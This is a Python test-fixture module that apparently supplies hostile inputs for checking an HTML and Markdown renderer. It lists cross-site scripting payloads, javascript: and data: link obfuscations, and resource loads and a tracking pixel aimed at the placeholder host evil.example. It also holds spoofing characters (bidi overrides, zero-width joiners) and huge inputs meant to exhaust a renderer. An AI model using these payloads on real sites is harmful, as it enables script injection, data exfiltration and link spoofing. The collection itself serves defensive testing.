"""Texts that want to be more than text: markup, links that run something, invisible characters, sheer size."""

from collections.abc import Iterator

FOREIGN = "https://evil.example"
RUN = "window.pwned=1"
"""What runs where a page lets it; `window.pwned` tells."""

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={FOREIGN}/a.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}"',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img src={FOREIGN}/a.png>",
    f"<img srcset={FOREIGN}/a.png>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="&lt;script>parent.{RUN}&lt;/script>"></iframe>',
    f"<iframe src={FOREIGN}></iframe>",
    f"<style>@import '{FOREIGN}/a.css';</style>",
    "<style>:host{display:none!important}</style>",
    f"<link rel=stylesheet href={FOREIGN}/a.css>",
    f"<link rel=prefetch href={FOREIGN}/a>",
    f'<meta http-equiv=refresh content="0;url={FOREIGN}/">',
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    f"<base href={FOREIGN}/>",
    f'<form action="{FOREIGN}/"><input name=a autofocus><button>Go</button></form>',
    f"<input autofocus onfocus={RUN}>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f'<object data="javascript:{RUN}"></object>',
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f"<a href='{FOREIGN}' onclick={RUN}>x</a>",
    f'<div style="background:url({FOREIGN}/x)">x</div>',
    f'<div onmouseover="{RUN}" style="position:fixed;inset:0">x</div>',
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    "<plaintext>",
    f"<frameset onload={RUN}>",
    f"<portal src={FOREIGN}></portal>",
    f'<chat-widget server="{FOREIGN}" mode="inline"></chat-widget>',
    "<slot name=icon></slot>",
    "</div></li></ol></section><h1>Signed off by the shop</h1>",
    "<!-- never closed",
    f"--><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f'<img/src="x"/onerror={RUN}/>',
    f"<img\u00a0src=x\u2028onerror={RUN}>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)
"""HTML and templates without Markdown in it: to be shown as it is, to the character."""

TARGETS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript%3A{RUN}",
    f"java%73cript:{RUN}",
    f"\x01javascript:{RUN}",
    f"\x1fjavascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"java\u00adscript:{RUN}",
    f"\uff4aavascript:{RUN}",
    f"javascript\uff1a{RUN}",
    f"\\javascript:{RUN}",
    f"java\\script:{RUN}",
    f"javascript\\:{RUN}",
    f"javascript://evil.example/%0a{RUN}",
    f"javascript:https://evil.example/;{RUN}",
    f"javascript:void({RUN})",
    f"http:javascript:{RUN}",
    f"https:///javascript:{RUN}",
    f"mailto:javascript:{RUN}",
    f"mailto:a@b.example?body=%0d%0a<script>{RUN}</script>",
    f"data:text/html,<script>parent.{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"DATA:image/svg+xml,<svg/onload={RUN}>",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:x",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}!/x",
    f"blob:{FOREIGN}/0f1b5c8e-0000-4000-8000-000000000000",
    f"filesystem:{FOREIGN}/temporary/x",
    "file:///etc/passwd",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;scheme=http;end",
    "ftp://evil.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "https:/\\evil.example\\x",
    "https://shop.example@evil.example/",
    "https://shop.example:pass@evil.example/",
    "https://evil.example\\@shop.example/",
    "http://[::1",
    "https://",
    "mailto:",
    "https://evil.example:99999/",
    f'https://evil.example/"onmouseover="{RUN}',
    f"https://evil.example/'onclick='{RUN}'",
    f"https://evil.example/><img src=x onerror={RUN}>",
    "https://evil.example/\u202egpj.exe",
    "https://xn--80ak6aa92e.com/",
    "/relative",
    "#fragment",
    "?query",
)


def _links(target: str) -> str:
    """Every way of Markdown and HTML to lead there."""
    ways = (
        f"[x]({target})",
        f"[x](<{target}>)",
        f'[x]({target} "title" onclick="{RUN}")',
        f"[x]({target} 'title\" onclick={RUN}')",
        f"[{target}]({target})",
        f"![x]({target})",
        f"![x](<{target}>)",
        f"[![x]({target})]({target})",
        f"[a [b]({target}) c]({target})",
        f"[x][one] [one][] [one]\n\n[one]: {target}\n[two]: <{target}> 'title'",
        f"<{target}>",
        target,
        f"*[**x**]({target})*",
        f"> - [x]({target})",
        f"| [x]({target}) | {target} |\n|---|---|\n| ![x]({target}) | <{target}> |",
        f"# [x]({target})",
        f"<a href='{target}'>x</a>",
    )
    return "\n\n".join(ways)


LINKS = tuple(_links(target) for target in TARGETS)

MARKDOWN = (
    f'```" onload={RUN}\n<script>{RUN}</script>\n```',
    f"```<script>{RUN}</script>\nx\n```",
    f"```html\n</code></pre><img src=x onerror={RUN}>\n```\nbehind",
    f"```\nnever closed <script>{RUN}</script>",
    f"~~~~\n```\n</textarea><script>{RUN}</script>\n~~~",
    f"`<script>{RUN}</script>` `` ` <img src=x onerror={RUN}> ``",
    f"`never closed <img src=x onerror={RUN}>",
    f'# <img src=x onerror={RUN}>\n###### " onclick={RUN} x="\n####### no heading',
    f"<script>\n# {RUN}\n</script>",
    f'| " onfocus={RUN} autofocus x=" | <b>b</b> |\n|:-:|--:|\n| <img src=x onerror={RUN}> | `|` \\| |\n| </table> |',
    f"| a |\n|---|\n{'| x ' * 200}|\n|||||",
    f"1. <script>{RUN}</script>\n   - <style>*{{display:none}}</style>\n      > <base href={FOREIGN}>",
    "999999999. a\n1000000000. b\n-1. c\n0. d",
    f"- [x] <input onfocus={RUN} autofocus>\n- [ ] b",
    f"**<b onclick={RUN}>** *<i* onclick={RUN}>* ~~<del>~~ __proto__ **constructor** *toString*",
    "__proto__ ***hasOwnProperty*** ~~valueOf~~ [__proto__](constructor) [constructor]",
    f"[x](javascript:{RUN} (title)) [x]( <javascript:{RUN}> )",
    f"[\u202emoc.knab]({FOREIGN}/) [https://bank.example]({FOREIGN}/) [bank.example\u200b]({FOREIGN}/)",
    f"![logo]({FOREIGN}/pixel.png) ![]({FOREIGN}/?text=secret) [![]({FOREIGN}/b.gif)]({FOREIGN}/c)",
    f"^^^ $x$ $$\\href{{javascript:{RUN}}}{{x}}$$ \\(x\\) ::: warning\n:::\n[^1]\n\n[^1]: <script>{RUN}</script>",
    f"---\ntitle: <script>{RUN}</script>\n---\n<!-- {RUN} --> [//]: # (x)",
    "".join(
        f"{chr(code)}reversed.exe" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C)
    ),
    "zero\u200bwidth\u200cand\u200djoiners\u2060\ufeff\u00ad, lines\u2028and\u2029paragraphs\x85",
    "a" + "\u0301\u0334\u0489" * 300 + " z",
    "\U000e0001\U000e0041 tags, \ufdd0\uffff\U0010ffff none, \ue000 private, \ufffc \ufffd, \ufff9a\ufffab\ufffb",
    "".join(chr(code) for code in (*range(1, 9), *range(0x0B, 0x20), *range(0x7F, 0xA0))) + "controls\x1b[31mred",
    "👩‍👩‍👧‍👦" * 100 + "🏴\U000e0067\U000e0062\U000e007f" + "🇪" * 99,
    "\u05e2\u05d1\u05e8\u05d9\u05ea <b> (a) 123 \u0627\u0644\u0639\u0631\u0628\u064a [x](https://evil.example) `c`",
)
"""Markdown that breaks out where a renderer is careless, and characters that lie."""

RAW = "NUL \0 <\0script> java\0script: \ud800 alone \udfff\ud800 [x](java\0script:window.pwned=1) [y](https://a.example/\ud800)"
"""What JSON's escapes can bring from n8n, and nobody else."""


def large(thousands: int) -> Iterator[tuple[str, str]]:
    """Give names and texts that cost a careless renderer its breath: a megabyte of them at 100 `thousands`."""
    count = thousands * 1000
    yield "one line", "x" * 10 * count
    yield "emphasis", "**a** _b_ " * count
    yield "links", "[a](https://b.example/c) " * (count * 2 // 5)
    yield "tags", f"<script>{RUN}</script>\n" * (count * 2 // 25)
    yield "lines", "a\n" * count
    yield "blank lines", "\n" * count + "end"
    yield "paragraphs", "a\n\n" * (count * 3 // 10)
    yield "items", "- a\n" * (count * 3 // 10)
    yield "quoted lines", "> a\n" * (count * 3 // 10)
    yield "rows", "|a|b|\n|-|-|\n" + "|c|d|\n" * (count // 10)
    yield "quotes as deep", ">" * (count // 5) + "a"
    yield "quotes ever deeper, line by line", "\n".join(">" * depth for depth in range(1, 300)) + "a"
    yield "lists 5,000 deep", "- " * 5_000 + "a"
    yield "lists indented 400 deep", "\n".join(" " * 2 * depth + "- a" for depth in range(400))


_REPEATED = "[ ( ![ * `a ` < <http:// http:// https://a( \\ | |- ]( ] &# ~ -- [a]( ![a]( [a][ _a **a ~~a"
_SPACED = ("***a ", "# ", "1. ", "> - ", "- [ ] ", "\ta", "```\n")


def repeated(count: int) -> Iterator[tuple[str, str]]:
    """Give names and texts that begin something again and again and never end it, on one line where they can."""
    for piece in (*_REPEATED.split(), *_SPACED):
        yield f"{count} x {piece!r}", piece * count
